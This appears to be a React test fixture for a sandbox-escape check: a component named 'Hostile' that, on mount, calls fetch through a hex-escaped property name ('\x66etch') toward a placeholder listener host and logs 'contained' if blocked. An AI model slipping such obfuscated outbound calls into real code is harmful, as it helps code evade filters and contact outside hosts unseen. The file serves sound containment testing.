import { useEffect } from "react";

// Escape attempt: fetch_hex_escape
export default function Hostile() {
  useEffect(() => {
    try {
      globalThis["\x66etch"]("__LISTENER__/fetch_hex_escape");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">fetch_hex_escape</p>;
}
